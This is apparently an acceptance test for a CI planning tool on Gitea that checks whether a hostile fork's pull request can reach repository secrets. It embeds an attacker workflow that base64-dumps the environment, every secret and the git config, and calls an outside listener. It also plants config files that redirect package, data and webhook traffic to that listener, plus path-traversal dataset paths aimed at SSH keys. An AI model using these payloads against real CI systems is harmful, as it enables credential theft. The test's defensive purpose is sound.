"""A chapter of the story on Gitea: what a stranger's pull request gets, and what reaches those whom it names."""

from __future__ import annotations

import base64
import contextlib
import re
import socket
import subprocess
import threading
from collections.abc import Iterator, Mapping
from pathlib import Path

from tests.acceptance.gitea_story import Story, await_job
from tests.acceptance.shop import until
from tests.forges.gitea_runner import FAILURE, GiteaRunner, Task

#: What a runner's owner has in the home, and where.
LOOT = "planted-private-key-5Hq8"
#: A workflow of the stranger's own, which a fork's pull request runs: all that it can find out, where no mask sees it.
EVIL = """
on: pull_request
jobs:
  evil:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
      - run: |
          echo "ENV $(env | base64 -w0)"
          echo "SECRETS $(printf '%s' "$ALL" | base64 -w0)"
          echo "GIT $(git config --list | base64 -w0)"
          curl -s -o /dev/null "@URL@/control" || true
          for at in "issues/1/comments" "statuses/$GITHUB_SHA"; do
            echo "WROTE $(curl -s -o /dev/null -w '%{http_code}' -X POST -H "Authorization: token $TOKEN" \\
              -H 'Content-Type: application/json' -d '{"body": "x", "state": "success", "context": "monkey/plan"}' \\
              "$GITHUB_API_URL/repos/$GITHUB_REPOSITORY/$at")"
          done
        env:
          ALL: ${{ toJSON(secrets) }}
          TOKEN: ${{ github.token }}
"""
PROJECT = """
project: shop
store: s3://bucket/lab?endpoint=@URL@&region=us-east-1
metrics:
  influxdb: {url: "@URL@", database: d, username: u, password: AWS_SECRET_ACCESS_KEY}
notify:
  - {webhook: "@URL@/hook", key: AWS_SECRET_ACCESS_KEY}
providers: {lab: {type: ssh, hosts: ["u@@HOST@:@PORT@"]}}
git: {branch: main}
"""
SPEC = """
name: hostile
parameters: {i: {range: [0, 3]}}
command: [python3, job.py, '{i}']
provider: lab
environment: {python: "3.11", requirements: ["--index-url @URL@/simple", "numpy==2.0.0"]}
"""
DATA = "outs:\n- {md5: 1bc29b36f623ba82aaf6724fd3b16718, size: 3, hash: md5, path: data, remote: theirs}\n"
DVC = "[core]\n    remote = theirs\n    autostage = true\n['remote \"theirs\"']\n    url = @URL@/dvc\n"


#: Wherever a branch can name a place.
PLACES = {
    "monkey.yaml": PROJECT,
    "specs/hostile.yaml": SPEC,
    "data.dvc": DATA,
    ".dvc/config": DVC,
    ".gitmodules": '[submodule "x"]\n    path = x\n    url = @URL@/x.git\n',
    ".lfsconfig": "[lfs]\n    url = @URL@/lfs\n",
}


class Doorbell:
    """A port of a stranger's; it counts who comes, whatever they say."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.host, self.port = self._socket.getsockname()
        self.url = f"http://{self.host}:{self.port}"
        #: How each connection began.
        self.heard: list[str] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                caller, _ = self._socket.accept()
                with caller, contextlib.suppress(OSError):
                    caller.settimeout(5)
                    self.heard.append(caller.recv(200).decode(errors="replace").partition("\r")[0])
                    caller.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def close(self) -> None:
        """Listen no longer."""
        self._socket.close()


@contextlib.contextmanager
def open_worktree(story: Story, name: str) -> Iterator[Path]:
    """Give a work tree of main, beside the project's own."""
    at = story.base / name
    story.clone.git("fetch", "--quiet", "origin")
    story.clone.git("worktree", "add", "--quiet", "--detach", str(at), "origin/main")
    try:
        yield at
    finally:
        story.clone.git("worktree", "remove", "--force", str(at))


def commit_there(at: Path, message: str, *urls: str) -> str:
    """Commit all in a work tree, and push it to the branch `hostile` of each repository; return the commit."""
    who = ["-c", "user.name=mallory", "-c", "user.email=mallory@example.org"]
    for words in (
        ["add", "-A"],
        ["commit", "-qm", message],
        *(["push", "-qf", url, "HEAD:refs/heads/hostile"] for url in urls),
    ):
        done = subprocess.run(["git", "-C", at, *who, *words], capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
    return subprocess.run(["git", "-C", at, "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()


def write_hostile_files(at: Path, bell: Doorbell, files: Mapping[str, str]) -> None:
    """Write these files, with the stranger's port in them."""

    def fill(text: str) -> str:
        return text.replace("@URL@", bell.url).replace("@HOST@", bell.host).replace("@PORT@", str(bell.port))

    for path, text in files.items():
        (at / path).parent.mkdir(exist_ok=True)
        (at / path).write_text(fill(text))


def read_shown(log: str, name: str) -> str:
    """Return what the stranger's workflow found out, of one kind."""
    [found] = re.findall(rf"^\W*{name} (\S+)$", log, re.MULTILINE)
    return base64.b64decode(found).decode(errors="replace")


def try_a_hostile_fork(story: Story, runner: GiteaRunner) -> None:
    """Have a stranger open a pull request that is after the secrets, and one of who may push."""
    repository, mallory = story.repository, story.repository.server.make_person("mallory")
    home, bell = Path(runner.environ["HOME"]), Doorbell()
    (home / ".ssh").mkdir()
    (home / ".ssh/id").write_text(f"{LOOT}\n")
    fork = repository.fork(mallory)
    with open_worktree(story, "hostile") as at:
        # Of who may push, and whose plan has the secrets: it reads the base's monkey.yaml.
        write_hostile_files(at, bell, PLACES)
        commit = commit_there(at, "a change", repository.clone_url())
        own = repository.open_pull("hostile")
        await_job(runner, "plan", commit, "pull_request")
        assert "3 new" in story.comments(own, "<!-- monkey:plan:shop -->")[0][1] and not bell.heard
        # Of a stranger, with a workflow besides, and data that lies elsewhere.
        more = {"specs/hostile.yaml": f"{SPEC}datasets: {{data: data}}\n", ".gitea/workflows/evil.yml": EVIL}
        write_hostile_files(at, bell, more)
        commit = commit_there(at, "a fine change", fork.clone_url())
        pull = repository.open_pull("mallory:hostile", token=mallory.token)
        until(lambda: repository.list_jobs("fork", commit, "pull_request") == ["waiting"], "it waits for a person")
        repository.approve(commit)
        planned, evil = (await_job(runner, job, commit, "pull_request") for job in ("fork", "evil"))
        check_nothing_was_given(story, planned, evil)
        summary = (home / "summary.md").read_text()
        assert summary.startswith("### monkey plan: ") and "`hostile`" in summary and "= 3 jobs" in summary
        assert not story.comments(pull, "<!-- monkey")
        assert bell.heard == ["GET /control HTTP/1.1"], "it was rung by the stranger's own workflow alone"
        # Files of the runner are no data.
        (at / "keys").symlink_to(home / ".ssh")
        loot = "{a: HOME/.ssh, b: ../../../../../../../etc/ssh, c: keys}".replace("HOME", str(home))
        spec = at / "specs/hostile.yaml"
        spec.write_text(spec.read_text().replace("{data: data}", loot))
        commit = commit_there(at, "a finer change", fork.clone_url())
        refused = await_job(runner, "fork", commit, "pull_request", FAILURE)
        for name in "abc":
            assert f"dataset '{name}': CI and previews send files of the repository alone" in refused.log
        assert LOOT not in refused.log and {*bell.heard} == {"GET /control HTTP/1.1"}
    bell.close()


def check_nothing_was_given(story: Story, planned: Task, evil: Task) -> None:
    """Have no secret in what Gitea gave to the jobs of the fork, in their environment, logs and files."""
    # These two are the job's token.
    assert {*planned.secrets, *evil.secrets} <= {"GITEA_TOKEN", "GITHUB_TOKEN"}
    shown = "".join(read_shown(evil.log, name) for name in ("ENV", "SECRETS", "GIT"))
    assert "GITHUB_REPOSITORY=" in shown, "it looked"
    for secret in story.planted:
        assert secret not in shown + evil.log + planned.log
        for task in (planned, evil):
            found = subprocess.run(["grep", "-rlF", "-e", secret, task.at], capture_output=True, text=True)
            assert (found.returncode, found.stdout) == (1, "")
    # Their token may say what it likes, as all may at Gitea who read; it agrees to nothing.
    assert re.findall(r"WROTE (\d+)", evil.log) == ["201", "403"]
